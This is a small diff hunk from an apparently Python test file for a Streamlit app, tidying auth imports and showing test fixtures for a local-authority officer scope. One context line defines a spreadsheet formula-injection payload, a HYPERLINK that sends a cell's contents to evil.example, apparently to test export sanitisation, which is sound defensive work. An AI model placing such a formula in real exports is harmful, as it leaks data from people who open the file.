@@ -17,10 +17,9 @@ from streamlit.testing.v1 import AppTest
 import queries
 import ui
 from actions import agenda, exports, store
-from auth import audit
+from auth import audit, users
 from auth import session as auth_session
 from auth import store as app_store
-from auth import users
 
 OFFICER = queries.Scope(pupil_rows_allowed=True, role="la_officer", user="officer@test.invalid")
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
